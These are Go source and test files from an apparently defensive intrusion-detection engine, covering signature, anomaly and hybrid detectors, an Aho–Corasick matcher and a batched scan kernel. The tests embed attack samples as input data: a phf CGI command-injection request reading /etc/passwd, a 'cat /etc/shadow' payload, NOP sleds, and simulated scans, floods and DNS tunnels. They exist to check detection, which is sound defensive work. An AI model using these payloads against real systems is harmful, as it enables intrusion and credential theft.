	return e.tag(append(sigAlerts, e.anom.Inspect(p, now)...))
}

// PrescanBatch implements Prescanning by delegating the content-scan
// phase to the signature child (the anomaly child inspects headers and
// statistics, not payload patterns). False when the child cannot
// prescan.
func (e *HybridEngine) PrescanBatch(payloads [][]byte) bool {
	ps, ok := e.sig.(Prescanning)
	return ok && ps.PrescanBatch(payloads)
}

// InspectPrescanned implements Prescanning, composing exactly as Inspect
// does but feeding the signature child its memoized match set.
func (e *HybridEngine) InspectPrescanned(p *packet.Packet, now time.Duration, idx int) []Alert {
	ps, ok := e.sig.(Prescanning)
	if !ok {
		return e.Inspect(p, now)
	}
	sigAlerts := ps.InspectPrescanned(p, now, idx)
	if e.mode == HybridSerial && len(sigAlerts) > 0 {
		return e.tag(sigAlerts)
	}
	return e.tag(append(sigAlerts, e.anom.Inspect(p, now)...))
}

// tag stamps the hybrid's name on child alerts so monitors attribute them
// to the composed engine.
func (e *HybridEngine) tag(alerts []Alert) []Alert {
	for i := range alerts {
		alerts[i].Engine = e.Name() + "/" + alerts[i].Engine
	}
	return alerts
}
