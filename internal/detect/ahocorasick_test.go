package detect

import (
	"bytes"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

func TestMatcherFindsAllOccurrences(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("he"), []byte("she"), []byte("his"), []byte("hers")})
	got := m.Scan([]byte("ushers"))
	// "ushers": she@4, he@4, hers@6.
	want := []Match{{1, 4}, {0, 4}, {3, 6}}
	if len(got) != len(want) {
		t.Fatalf("got %v, want %v", got, want)
	}
	seen := make(map[Match]bool)
	for _, g := range got {
		seen[g] = true
	}
	for _, w := range want {
		if !seen[w] {
			t.Fatalf("missing match %v in %v", w, got)
		}
	}
}

func TestMatcherOverlappingPatterns(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("aa"), []byte("aaa")})
	got := m.Scan([]byte("aaaa"))
	// aa@2, aa@3+aaa@3, aa@4+aaa@4 = 5 matches.
	if len(got) != 5 {
		t.Fatalf("got %d matches: %v", len(got), got)
	}
}

func TestMatcherEmptyAndNoMatch(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("xyz"), nil, []byte("")})
	if m.NumPatterns() != 1 {
		t.Fatalf("NumPatterns = %d, want 1 (empties dropped)", m.NumPatterns())
	}
	if got := m.Scan([]byte("hello world")); got != nil {
		t.Fatalf("unexpected matches %v", got)
	}
	if m.Contains([]byte("hello")) {
		t.Fatal("Contains false positive")
	}
	if !m.Contains([]byte("wxyz!")) {
		t.Fatal("Contains false negative")
	}
	if got := m.Scan(nil); got != nil {
		t.Fatalf("nil input matched: %v", got)
	}
}

func TestMatcherBinaryPatterns(t *testing.T) {
	sled := bytes.Repeat([]byte{0x90}, 8)
	m := NewMatcher([][]byte{sled})
	data := append([]byte("GET /"), bytes.Repeat([]byte{0x90}, 20)...)
	if !m.Contains(data) {
		t.Fatal("binary pattern not found")
	}
	if m.Contains(bytes.Repeat([]byte{0x90, 0x00}, 10)) {
		t.Fatal("interleaved bytes should not match the sled")
	}
}

func TestScanSetDistinctSorted(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("ab"), []byte("bc"), []byte("zz")})
	got := m.ScanSet([]byte("ababcbc"))
	if !reflect.DeepEqual(got, []int{0, 1}) {
		t.Fatalf("ScanSet = %v", got)
	}
}

// Property: Aho–Corasick agrees with the naive scanner on random inputs
// over a small alphabet (small alphabet maximizes overlaps).
func TestPropertyMatcherAgreesWithNaive(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		alphabet := []byte("abc")
		randBytes := func(n int) []byte {
			b := make([]byte, n)
			for i := range b {
				b[i] = alphabet[r.Intn(len(alphabet))]
			}
			return b
		}
		var pats [][]byte
		for i := 0; i < 1+r.Intn(6); i++ {
			pats = append(pats, randBytes(1+r.Intn(4)))
		}
		data := randBytes(r.Intn(200))
		m := NewMatcher(pats)
		got := m.Scan(data)
		want := NaiveScan(pats, data)
		if len(got) != len(want) {
			return false
		}
		// Compare as multisets.
		count := make(map[Match]int)
		for _, g := range got {
			count[g]++
		}
		for _, w := range want {
			count[w]--
		}
		for _, c := range count {
			if c != 0 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 150}); err != nil {
		t.Fatal(err)
	}
}

func TestMatcherDuplicatePatterns(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("dup"), []byte("dup")})
	got := m.Scan([]byte("xxdupxx"))
	if len(got) != 2 {
		t.Fatalf("duplicate patterns must both report: %v", got)
	}
}

func benchCorpus() ([][]byte, []byte) {
	rules := StandardContentRules()
	pats := make([][]byte, len(rules))
	for i, r := range rules {
		pats[i] = r.Pattern
	}
	r := rand.New(rand.NewSource(3))
	data := make([]byte, 4096)
	words := []byte("GET /index.html HTTP/1.0 Host: shop.example.com status nominal track ")
	for i := range data {
		data[i] = words[r.Intn(len(words))]
	}
	return pats, data
}

func BenchmarkAhoCorasickScan4K(b *testing.B) {
	pats, data := benchCorpus()
	m := NewMatcher(pats)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m.Contains(data)
	}
}

func BenchmarkNaiveScan4K(b *testing.B) {
	pats, data := benchCorpus()
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		NaiveScan(pats, data)
	}
}
