package detect

import (
	"bytes"
	"math"
	"math/rand"
	"strings"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/traffic"
)

var (
	extAddr = packet.IPv4(203, 0, 1, 9)
	lanA    = packet.IPv4(10, 1, 1, 1)
	lanB    = packet.IPv4(10, 1, 1, 2)
)

func tcpPkt(src, dst packet.Addr, dport uint16, flags packet.TCPFlags, payload []byte) *packet.Packet {
	return &packet.Packet{
		Src: src, Dst: dst, SrcPort: 31000, DstPort: dport,
		Proto: packet.ProtoTCP, Flags: flags, Payload: payload, TTL: 64,
	}
}

func TestEntropy(t *testing.T) {
	if got := Entropy(nil); got != 0 {
		t.Fatalf("Entropy(nil) = %v", got)
	}
	if got := Entropy(bytes.Repeat([]byte{'a'}, 100)); got != 0 {
		t.Fatalf("uniform byte entropy = %v, want 0", got)
	}
	all := make([]byte, 256)
	for i := range all {
		all[i] = byte(i)
	}
	if got := Entropy(all); math.Abs(got-8) > 1e-9 {
		t.Fatalf("full-alphabet entropy = %v, want 8", got)
	}
	text := Entropy([]byte("the quick brown fox jumps over the lazy dog"))
	if text < 3 || text > 5 {
		t.Fatalf("english text entropy = %v, want ~4", text)
	}
}

func TestMechanismString(t *testing.T) {
	if MechanismSignature.String() != "signature-based" ||
		MechanismAnomaly.String() != "anomaly-based" ||
		MechanismHybrid.String() != "hybrid" {
		t.Fatal("mechanism names wrong")
	}
}

func TestSensitivityValidation(t *testing.T) {
	for _, e := range []Engine{NewStandardSignatureEngine(), NewAnomalyEngine()} {
		if err := e.SetSensitivity(-0.1); err == nil {
			t.Fatalf("%s accepted -0.1", e.Name())
		}
		if err := e.SetSensitivity(1.1); err == nil {
			t.Fatalf("%s accepted 1.1", e.Name())
		}
		if err := e.SetSensitivity(math.NaN()); err == nil {
			t.Fatalf("%s accepted NaN", e.Name())
		}
		if err := e.SetSensitivity(0.7); err != nil {
			t.Fatal(err)
		}
		if got := e.Sensitivity(); got != 0.7 {
			t.Fatalf("%s sensitivity = %v", e.Name(), got)
		}
	}
}

func TestSignatureDetectsExploitPayload(t *testing.T) {
	e := NewStandardSignatureEngine()
	p := tcpPkt(extAddr, lanA, 80, packet.ACK|packet.PSH,
		[]byte("GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0\r\n\r\n"))
	alerts := e.Inspect(p, time.Second)
	if len(alerts) == 0 {
		t.Fatal("phf exploit not detected")
	}
	found := false
	for _, a := range alerts {
		if a.Technique == "exploit" && a.Attacker == extAddr && a.Victim == lanA {
			found = true
		}
	}
	if !found {
		t.Fatalf("no exploit alert in %v", alerts)
	}
}

func TestSignatureNOPSled(t *testing.T) {
	e := NewStandardSignatureEngine()
	p := tcpPkt(extAddr, lanA, 21, packet.ACK|packet.PSH,
		append([]byte("USER "), bytes.Repeat([]byte{0x90}, 64)...))
	if alerts := e.Inspect(p, 0); len(alerts) == 0 {
		t.Fatal("NOP sled not detected")
	}
}

func TestSignatureLowSensitivityIgnoresKeywordRules(t *testing.T) {
	e := NewStandardSignatureEngine()
	if err := e.SetSensitivity(0.1); err != nil {
		t.Fatal(err)
	}
	// Benign SMTP mentioning "admin" must not alert at low sensitivity.
	p := tcpPkt(extAddr, lanA, 25, packet.ACK|packet.PSH,
		[]byte("MAIL FROM:<admin@example.com>\r\n"))
	if alerts := e.Inspect(p, 0); len(alerts) != 0 {
		t.Fatalf("low-sensitivity keyword alert: %v", alerts)
	}
	// At maximum sensitivity the same packet trips the keyword rule.
	e2 := NewStandardSignatureEngine()
	if err := e2.SetSensitivity(1); err != nil {
		t.Fatal(err)
	}
	if alerts := e2.Inspect(p, 0); len(alerts) == 0 {
		t.Fatal("keyword rule inactive at sensitivity 1")
	}
}

func TestSignatureSuppressionDeduplicates(t *testing.T) {
	e := NewStandardSignatureEngine()
	p := tcpPkt(extAddr, lanA, 80, packet.ACK|packet.PSH, []byte("cgi-bin/phf attack"))
	first := e.Inspect(p, time.Second)
	second := e.Inspect(p, time.Second+100*time.Millisecond)
	third := e.Inspect(p, 10*time.Second)
	if len(first) == 0 {
		t.Fatal("no initial alert")
	}
	if len(second) != 0 {
		t.Fatal("suppression window ignored")
	}
	if len(third) == 0 {
		t.Fatal("alert not re-raised after suppression window")
	}
}

func TestSignaturePortScanThreshold(t *testing.T) {
	e := NewStandardSignatureEngine()
	var alerts []Alert
	now := time.Duration(0)
	for port := uint16(1); port <= 80; port++ {
		p := tcpPkt(extAddr, lanA, port, packet.SYN, nil)
		alerts = append(alerts, e.Inspect(p, now)...)
		now += 10 * time.Millisecond
	}
	scan := 0
	for _, a := range alerts {
		if a.Technique == "portscan" {
			scan++
		}
	}
	if scan == 0 {
		t.Fatal("port scan not detected")
	}
}

func TestSignatureScanThresholdRespectsSensitivity(t *testing.T) {
	countAlerts := func(s float64, ports int) int {
		e := NewStandardSignatureEngine()
		if err := e.SetSensitivity(s); err != nil {
			t.Fatal(err)
		}
		n := 0
		now := time.Duration(0)
		for port := uint16(1); int(port) <= ports; port++ {
			for _, a := range e.Inspect(tcpPkt(extAddr, lanA, port, packet.SYN, nil), now) {
				if a.Technique == "portscan" {
					n++
				}
			}
			now += 5 * time.Millisecond
		}
		return n
	}
	// 30 probes: below the base-40 threshold at low sensitivity, above
	// the scaled-down threshold at sensitivity 1 (40*0.5=20).
	if got := countAlerts(0.2, 30); got != 0 {
		t.Fatalf("low sensitivity fired on 30 probes: %d", got)
	}
	if got := countAlerts(1.0, 30); got == 0 {
		t.Fatal("high sensitivity missed 30 probes")
	}
}

func TestSignatureSYNFloodThreshold(t *testing.T) {
	e := NewStandardSignatureEngine()
	n := 0
	for i := 0; i < 800; i++ {
		p := tcpPkt(extAddr, lanA, 80, packet.SYN, nil)
		p.SrcPort = uint16(1024 + i)
		for _, a := range e.Inspect(p, time.Duration(i)*time.Millisecond) {
			if a.Technique == "synflood" {
				n++
			}
		}
	}
	if n == 0 {
		t.Fatal("SYN flood not detected")
	}
}

func TestSignatureBruteForceThreshold(t *testing.T) {
	e := NewStandardSignatureEngine()
	e.SetSensitivity(0.5)
	n := 0
	for i := 0; i < 20; i++ {
		p := tcpPkt(lanA, extAddr, 31000, packet.ACK|packet.PSH, []byte("Login incorrect\r\n"))
		p.SrcPort = 23
		for _, a := range e.Inspect(p, time.Duration(i)*200*time.Millisecond) {
			if a.Technique == "bruteforce" && strings.Contains(a.Reason, "threshold") {
				n++
			}
		}
	}
	if n == 0 {
		t.Fatal("brute force threshold never fired")
	}
}

func TestSignatureCostScalesWithPayload(t *testing.T) {
	e := NewStandardSignatureEngine()
	small := e.CostPerPacket(tcpPkt(extAddr, lanA, 80, 0, make([]byte, 10)))
	big := e.CostPerPacket(tcpPkt(extAddr, lanA, 80, 0, make([]byte, 1400)))
	if big <= small {
		t.Fatalf("cost not payload-sensitive: %v vs %v", small, big)
	}
}

// trainAnomaly builds a baseline from clean cluster-profile traffic.
func trainAnomaly(t testing.TB, e *AnomalyEngine) {
	t.Helper()
	r := rand.New(rand.NewSource(8))
	now := time.Duration(0)
	for i := 0; i < 3000; i++ {
		// DNS queries between LAN hosts.
		dns := &packet.Packet{
			Src: lanA, Dst: lanB, SrcPort: uint16(1024 + r.Intn(60000)), DstPort: 53,
			Proto: packet.ProtoUDP, Payload: traffic.DNSQuery(r),
		}
		e.Train(dns, now)
		// Cluster RPC.
		rpc := &packet.Packet{
			Src: lanB, Dst: lanA, SrcPort: 7400, DstPort: 7400,
			Proto: packet.ProtoUDP, Payload: traffic.ClusterRPC(r, traffic.RPCStateVector, uint32(i)),
		}
		e.Train(rpc, now)
		now += 5 * time.Millisecond
	}
}

func TestAnomalyDetectsDNSTunnelEntropy(t *testing.T) {
	e := NewAnomalyEngine()
	trainAnomaly(t, e)
	e.SetSensitivity(0.6)
	// A long, high-entropy DNS "query" as the tunnel scenario emits.
	r := rand.New(rand.NewSource(5))
	payload := make([]byte, 110)
	r.Read(payload)
	p := &packet.Packet{
		Src: lanA, Dst: extAddr, SrcPort: 40000, DstPort: 53,
		Proto: packet.ProtoUDP, Payload: payload,
	}
	alerts := e.Inspect(p, 20*time.Second)
	if len(alerts) == 0 {
		t.Fatal("tunnel-like DNS payload not flagged")
	}
}

func TestAnomalyIgnoresNormalTraffic(t *testing.T) {
	e := NewAnomalyEngine()
	trainAnomaly(t, e)
	e.SetSensitivity(0.5)
	r := rand.New(rand.NewSource(9))
	falsePositives := 0
	now := 20 * time.Second
	for i := 0; i < 500; i++ {
		p := &packet.Packet{
			Src: lanA, Dst: lanB, SrcPort: uint16(1024 + r.Intn(60000)), DstPort: 53,
			Proto: packet.ProtoUDP, Payload: traffic.DNSQuery(r),
		}
		falsePositives += len(e.Inspect(p, now))
		now += 10 * time.Millisecond
	}
	if falsePositives > 5 {
		t.Fatalf("%d false positives on in-profile traffic", falsePositives)
	}
}

func TestAnomalyNoveltyGatedBySensitivity(t *testing.T) {
	fresh := func(s float64) []Alert {
		e := NewAnomalyEngine()
		trainAnomaly(t, e)
		e.SetSensitivity(s)
		// Unknown service on a known host (insider rsh-style pull).
		p := tcpPkt(lanA, lanB, 514, packet.ACK|packet.PSH, []byte("cat /etc/shadow\n"))
		return e.Inspect(p, 30*time.Second)
	}
	if got := fresh(0.1); len(got) != 0 {
		t.Fatalf("novelty alert at sensitivity 0.1: %v", got)
	}
	if got := fresh(0.8); len(got) == 0 {
		t.Fatal("novel service missed at sensitivity 0.8")
	}
}

func TestAnomalyRateSpike(t *testing.T) {
	e := NewAnomalyEngine()
	trainAnomaly(t, e)
	e.SetSensitivity(0.7)
	r := rand.New(rand.NewSource(3))
	n := 0
	// Flood: thousands of packets from one source in under a second.
	for i := 0; i < 5000; i++ {
		p := &packet.Packet{
			Src: extAddr, Dst: lanA, SrcPort: uint16(1024 + i%60000), DstPort: 80,
			Proto: packet.ProtoTCP, Flags: packet.SYN,
		}
		_ = r
		for _, a := range e.Inspect(p, 30*time.Second+time.Duration(i)*100*time.Microsecond) {
			if a.Technique == "rate-anomaly" {
				n++
			}
		}
	}
	if n == 0 {
		t.Fatal("rate spike not detected")
	}
}

func TestAnomalySensitivityMonotoneOnAttack(t *testing.T) {
	// Higher sensitivity must not detect fewer attack packets.
	count := func(s float64) int {
		e := NewAnomalyEngine()
		trainAnomaly(t, e)
		e.SetSensitivity(s)
		r := rand.New(rand.NewSource(5))
		n := 0
		now := 30 * time.Second
		for i := 0; i < 50; i++ {
			payload := make([]byte, 100+r.Intn(20))
			r.Read(payload)
			p := &packet.Packet{
				Src: lanB, Dst: extAddr, SrcPort: 40000, DstPort: 53,
				Proto: packet.ProtoUDP, Payload: payload,
			}
			n += len(e.Inspect(p, now))
			now += 3 * time.Second // outside suppression window
		}
		return n
	}
	low, high := count(0.2), count(0.9)
	if high < low {
		t.Fatalf("sensitivity not monotone: low=%d high=%d", low, high)
	}
	if high == 0 {
		t.Fatal("high sensitivity detected nothing")
	}
}

func TestHybridParallelUnionsAlerts(t *testing.T) {
	sig := NewStandardSignatureEngine()
	anom := NewAnomalyEngine()
	trainAnomaly(t, anom)
	h := NewHybridEngine(sig, anom, HybridParallel)
	h.SetSensitivity(0.8)
	// A packet that trips both: novel service AND a signature.
	p := tcpPkt(lanA, lanB, 514, packet.ACK|packet.PSH, []byte("cat /etc/shadow\n"))
	alerts := h.Inspect(p, 30*time.Second)
	engines := make(map[string]bool)
	for _, a := range alerts {
		engines[a.Engine] = true
	}
	var sawSig, sawAnom bool
	for e := range engines {
		if strings.Contains(e, "signature") {
			sawSig = true
		}
		if strings.Contains(e, "anomaly") {
			sawAnom = true
		}
	}
	if !sawSig || !sawAnom {
		t.Fatalf("parallel hybrid alerts from %v, want both engines", engines)
	}
}

func TestHybridSerialShortCircuits(t *testing.T) {
	sig := NewStandardSignatureEngine()
	anom := NewAnomalyEngine()
	trainAnomaly(t, anom)
	h := NewHybridEngine(sig, anom, HybridSerial)
	h.SetSensitivity(0.8)
	p := tcpPkt(lanA, lanB, 514, packet.ACK|packet.PSH, []byte("cat /etc/shadow\n"))
	alerts := h.Inspect(p, 30*time.Second)
	for _, a := range alerts {
		if strings.Contains(a.Engine, "anomaly") {
			t.Fatalf("serial hybrid consulted anomaly engine despite signature hit: %v", a)
		}
	}
	if len(alerts) == 0 {
		t.Fatal("serial hybrid missed signature hit")
	}
}

func TestHybridCostModel(t *testing.T) {
	sig := NewStandardSignatureEngine()
	anom := NewAnomalyEngine()
	par := NewHybridEngine(sig, anom, HybridParallel)
	ser := NewHybridEngine(sig, anom, HybridSerial)
	p := tcpPkt(extAddr, lanA, 80, 0, make([]byte, 1000))
	if par.CostPerPacket(p) <= ser.CostPerPacket(p) {
		t.Fatal("parallel hybrid should cost more than serial")
	}
	if ser.CostPerPacket(p) <= sig.CostPerPacket(p) {
		t.Fatal("serial hybrid should cost more than signature alone")
	}
}

func TestHybridSensitivityPropagates(t *testing.T) {
	sig := NewStandardSignatureEngine()
	anom := NewAnomalyEngine()
	h := NewHybridEngine(sig, anom, HybridParallel)
	if err := h.SetSensitivity(0.9); err != nil {
		t.Fatal(err)
	}
	if sig.Sensitivity() != 0.9 || anom.Sensitivity() != 0.9 {
		t.Fatal("sensitivity did not propagate")
	}
	if err := h.SetSensitivity(2); err == nil {
		t.Fatal("invalid sensitivity accepted")
	}
}

func BenchmarkSignatureInspectBenign(b *testing.B) {
	e := NewStandardSignatureEngine()
	r := rand.New(rand.NewSource(1))
	p := tcpPkt(extAddr, lanA, 80, packet.ACK|packet.PSH, traffic.HTTPResponse(r, 2048))
	b.SetBytes(int64(len(p.Payload)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		e.Inspect(p, time.Duration(i)*time.Microsecond)
	}
}

func BenchmarkAnomalyInspect(b *testing.B) {
	e := NewAnomalyEngine()
	trainAnomaly(b, e)
	r := rand.New(rand.NewSource(1))
	p := &packet.Packet{
		Src: lanA, Dst: lanB, SrcPort: 40000, DstPort: 53,
		Proto: packet.ProtoUDP, Payload: traffic.DNSQuery(r),
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		e.Inspect(p, time.Duration(i)*time.Microsecond)
	}
}

func TestDNSOversizeRuleCatchesTunnel(t *testing.T) {
	e := NewUpdatedSignatureEngine()
	e.SetSensitivity(0.5)
	r := rand.New(rand.NewSource(5))
	n := 0
	// Tunnel-like stream: oversized DNS queries from one conversation.
	for i := 0; i < 40; i++ {
		payload := make([]byte, 100+r.Intn(20))
		r.Read(payload)
		p := &packet.Packet{
			Src: lanA, Dst: extAddr, SrcPort: 40000, DstPort: 53,
			Proto: packet.ProtoUDP, Payload: payload,
		}
		for _, a := range e.Inspect(p, time.Duration(i)*100*time.Millisecond) {
			if a.Technique == "dns-tunnel" {
				n++
			}
		}
	}
	if n == 0 {
		t.Fatal("updated corpus missed the tunnel-shaped stream")
	}
	// The stock corpus must NOT fire on it (the 5.0 gap).
	stock := NewStandardSignatureEngine()
	stock.SetSensitivity(0.5)
	for i := 0; i < 40; i++ {
		payload := make([]byte, 100+r.Intn(20))
		r.Read(payload)
		p := &packet.Packet{
			Src: lanA, Dst: extAddr, SrcPort: 40000, DstPort: 53,
			Proto: packet.ProtoUDP, Payload: payload,
		}
		if alerts := stock.Inspect(p, time.Duration(i)*100*time.Millisecond); len(alerts) != 0 {
			t.Fatalf("stock corpus alerted on DNS tunnel: %v", alerts)
		}
	}
}

func TestDNSOversizeRuleIgnoresNormalDNS(t *testing.T) {
	e := NewUpdatedSignatureEngine()
	e.SetSensitivity(0.5)
	r := rand.New(rand.NewSource(6))
	for i := 0; i < 200; i++ {
		p := &packet.Packet{
			Src: lanA, Dst: lanB, SrcPort: uint16(1024 + r.Intn(60000)), DstPort: 53,
			Proto: packet.ProtoUDP, Payload: traffic.DNSQuery(r),
		}
		if alerts := e.Inspect(p, time.Duration(i)*50*time.Millisecond); len(alerts) != 0 {
			t.Fatalf("oversize rule fired on a normal query: %v", alerts)
		}
	}
}

func TestICMPSweepRule(t *testing.T) {
	e := NewUpdatedSignatureEngine()
	e.SetSensitivity(0.5)
	n := 0
	for i := 0; i < 30; i++ {
		p := &packet.Packet{
			Src: extAddr, Dst: packet.IPv4(10, 1, 1, byte(i%6+1)),
			Proto: packet.ProtoICMP, Payload: []byte{8, 0},
		}
		for _, a := range e.Inspect(p, time.Duration(i)*100*time.Millisecond) {
			if a.Technique == "pingsweep" {
				n++
			}
		}
	}
	if n == 0 {
		t.Fatal("ping sweep undetected by updated corpus")
	}
	// The stock corpus ignores ICMP entirely.
	stock := NewStandardSignatureEngine()
	stock.SetSensitivity(1)
	for i := 0; i < 30; i++ {
		p := &packet.Packet{
			Src: extAddr, Dst: packet.IPv4(10, 1, 1, byte(i%6+1)),
			Proto: packet.ProtoICMP, Payload: []byte{8, 0},
		}
		if alerts := stock.Inspect(p, time.Duration(i)*100*time.Millisecond); len(alerts) != 0 {
			t.Fatalf("stock corpus alerted on ICMP: %v", alerts)
		}
	}
}
