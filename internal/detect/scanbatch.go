package detect

// Batched scanning. A single Aho–Corasick traversal is latency-bound:
// every input byte costs one dependent table load, so the core sits idle
// waiting on L1/L2 while the scan crawls at a few ns/byte. ScanBatch
// breaks the dependence by interleaving up to batchLanes independent
// traversals — lane i's next load does not depend on lane j's — letting
// the out-of-order core keep several automaton walks in flight at once.
// Semantics are pinned by tests and fuzzing: per payload, ScanBatch
// produces exactly ScanSetInto's sorted distinct pattern set, so batch
// boundaries can never leak into alert content.

// batchLanes is the interleave width. Four lanes cover the automaton's
// dependent-load latency while the whole kernel working set — lane
// pointers, lane states, table base and bound — still fits the
// general-purpose register file, so the hot loop runs spill-free.
const batchLanes = 4

// BatchBuf is caller-owned scratch and result storage for ScanBatch.
// One BatchBuf per scanning goroutine; buffers grow once and are reused,
// so the steady-state batched path performs zero allocations.
type BatchBuf struct {
	n int
	// offs/arena hold the per-payload hit lists back to back, in the
	// payload order given to ScanBatch.
	offs  []int32
	arena []int32
	// seen is a per-pattern bitmask of which lanes in the active group
	// have already recorded the pattern; cleared incrementally.
	seen []uint8
	// laneHits collects each active lane's distinct hits (sorted at
	// group flush).
	laneHits [batchLanes][]int32
}

// Len reports how many payloads the last ScanBatch covered.
func (b *BatchBuf) Len() int { return b.n }

// Hits returns payload i's sorted distinct pattern indices from the last
// ScanBatch. The slice aliases the buffer and is valid until the next
// ScanBatch with the same buf.
func (b *BatchBuf) Hits(i int) []int32 {
	return b.arena[b.offs[i]:b.offs[i+1]]
}

// ScanBatch scans every payload, interleaving up to batchLanes automaton
// traversals, and stores each payload's sorted distinct pattern indices
// in buf (retrieve with buf.Hits). It is a pure read of the immutable
// automaton: results are position-keyed, and per-payload output is
// byte-identical to ScanSetInto on the same data.
func (m *Matcher) ScanBatch(payloads [][]byte, buf *BatchBuf) {
	buf.n = len(payloads)
	buf.offs = append(buf.offs[:0], 0)
	buf.arena = buf.arena[:0]
	if len(buf.seen) < len(m.patterns) {
		buf.seen = make([]uint8, len(m.patterns))
	}
	for g := 0; g < len(payloads); g += batchLanes {
		k := len(payloads) - g
		if k > batchLanes {
			k = batchLanes
		}
		m.scanLaneGroup(payloads[g:g+k], buf)
	}
}

// scanLaneGroup runs one interleaved group of up to batchLanes payloads.
// Lanes are ordered longest-first so the hot loop only steps live lanes
// (a finished short payload never costs the group a branch per byte).
func (m *Matcher) scanLaneGroup(group [][]byte, buf *BatchBuf) {
	k := len(group)
	// ord[l] = original index of the lane in descending-length order
	// (stable, so equal lengths keep payload order — not that results
	// depend on it; lanes are fully independent).
	var ord [batchLanes]int
	for l := 0; l < k; l++ {
		ord[l] = l
	}
	for i := 1; i < k; i++ {
		for j := i; j > 0 && len(group[ord[j]]) > len(group[ord[j-1]]); j-- {
			ord[j], ord[j-1] = ord[j-1], ord[j]
		}
	}
	var data [batchLanes][]byte
	// states holds each lane's pre-shifted row base (state<<8), matching
	// the packed transition encoding (see Matcher docs).
	var states [batchLanes]uint32
	for l := 0; l < k; l++ {
		data[l] = group[ord[l]]
	}

	// Full-width prefix: while all batchLanes lanes are live (positions
	// below the shortest payload's length), the hand-unrolled kernel
	// keeps every lane's state in a register and every byte load
	// bounds-check-free. For near-uniform payload sizes — the common
	// sensor-queue shape — this covers almost the entire batch.
	pos := 0
	if k == batchLanes {
		pos = m.scanKernel(&data, &states, len(data[batchLanes-1]), buf)
	} else if k == 1 {
		// A lone lane has no interleaving to win; run the scalar loop
		// shape so the degenerate batch matches ScanSetInto's speed.
		d := data[0]
		dense := m.dense
		r := states[0]
		for i := 0; i < len(d); i++ {
			idx := uint64(r) | uint64(d[i])
			var v uint32
			if idx < uint64(len(dense)) {
				v = dense[idx]
			} else {
				v = m.stepSlow(int32(r>>8), d[i])
			}
			r = v >> 1
			if v&1 != 0 {
				m.collectLane(0, r>>8, buf)
			}
		}
		states[0] = r
		pos = len(d)
	}

	dense := m.dense
	active := k
	for ; active > 0; pos++ {
		// Lanes are length-sorted, so the live set is always a prefix.
		for active > 0 && pos >= len(data[active-1]) {
			active--
		}
		for l := 0; l < active; l++ {
			d := data[l]
			idx := uint64(states[l]) | uint64(d[pos])
			var v uint32
			if idx < uint64(len(dense)) {
				v = dense[idx]
			} else {
				v = m.stepSlow(int32(states[l]>>8), d[pos])
			}
			states[l] = v >> 1
			if v&1 != 0 {
				m.collectLane(l, states[l]>>8, buf)
			}
		}
	}

	// Flush: per original payload order, sort the lane's distinct hits,
	// clear its seen bits, and append to the contiguous arena.
	var perm [batchLanes]int
	for l := 0; l < k; l++ {
		perm[ord[l]] = l
	}
	for i := 0; i < k; i++ {
		l := perm[i]
		hits := buf.laneHits[l]
		bit := uint8(1) << l
		for _, p := range hits {
			buf.seen[p] &^= bit
		}
		insertionSortInt32(hits)
		buf.arena = append(buf.arena, hits...)
		buf.offs = append(buf.offs, int32(len(buf.arena)))
		buf.laneHits[l] = hits[:0]
	}
}

// scanKernel advances all batchLanes lanes from position 0 through limit
// (the shortest lane's length; lanes are length-sorted so every lane is
// live for the whole range). The fast loop is call-free — lane row bases
// live in registers with no spill slots, payloads are resliced to
// exactly limit so byte loads are bounds-check-free — and the rare
// events (sparse-state excursion, pattern output) break out to
// kernelSlowPos, which finishes that one position with the full-fidelity
// path before the fast loop resumes. Returns the position the generic
// loop resumes from.
func (m *Matcher) scanKernel(data *[batchLanes][]byte, states *[batchLanes]uint32, limit int, buf *BatchBuf) int {
	if limit == 0 {
		return 0
	}
	d0, d1, d2, d3 := data[0][:limit], data[1][:limit], data[2][:limit], data[3][:limit]
	dense := m.dense
	dl := uint64(len(dense))
	pos := 0
	for pos < limit {
		s0, s1, s2, s3 := states[0], states[1], states[2], states[3]
		// ev encodes the breaking lane in bits 0..1 and "already advanced"
		// (output event, state updated) in bit 2; -1 means clean finish.
		ev := -1
	fast:
		for ; pos < limit; pos++ {
			var v uint32
			idx := uint64(s0) | uint64(d0[pos])
			if idx >= dl {
				ev = 0
				break fast
			}
			v = dense[idx]
			s0 = v >> 1
			if v&1 != 0 {
				ev = 0 | 4
				break fast
			}
			idx = uint64(s1) | uint64(d1[pos])
			if idx >= dl {
				ev = 1
				break fast
			}
			v = dense[idx]
			s1 = v >> 1
			if v&1 != 0 {
				ev = 1 | 4
				break fast
			}
			idx = uint64(s2) | uint64(d2[pos])
			if idx >= dl {
				ev = 2
				break fast
			}
			v = dense[idx]
			s2 = v >> 1
			if v&1 != 0 {
				ev = 2 | 4
				break fast
			}
			idx = uint64(s3) | uint64(d3[pos])
			if idx >= dl {
				ev = 3
				break fast
			}
			v = dense[idx]
			s3 = v >> 1
			if v&1 != 0 {
				ev = 3 | 4
				break fast
			}
		}
		states[0], states[1], states[2], states[3] = s0, s1, s2, s3
		if ev < 0 {
			break
		}
		m.kernelSlowPos(data, states, pos, ev, buf)
		pos++
	}
	return limit
}

// kernelSlowPos completes one position for the breaking lane and every
// lane after it, taking the sparse and output paths the fast loop
// excluded. Lanes before the breaking lane already advanced.
func (m *Matcher) kernelSlowPos(data *[batchLanes][]byte, states *[batchLanes]uint32, pos, ev int, buf *BatchBuf) {
	l := ev & 3
	if ev&4 != 0 {
		// The breaking lane already advanced into an output state.
		m.collectLane(l, states[l]>>8, buf)
		l++
	}
	dense := m.dense
	for ; l < batchLanes; l++ {
		b := data[l][pos]
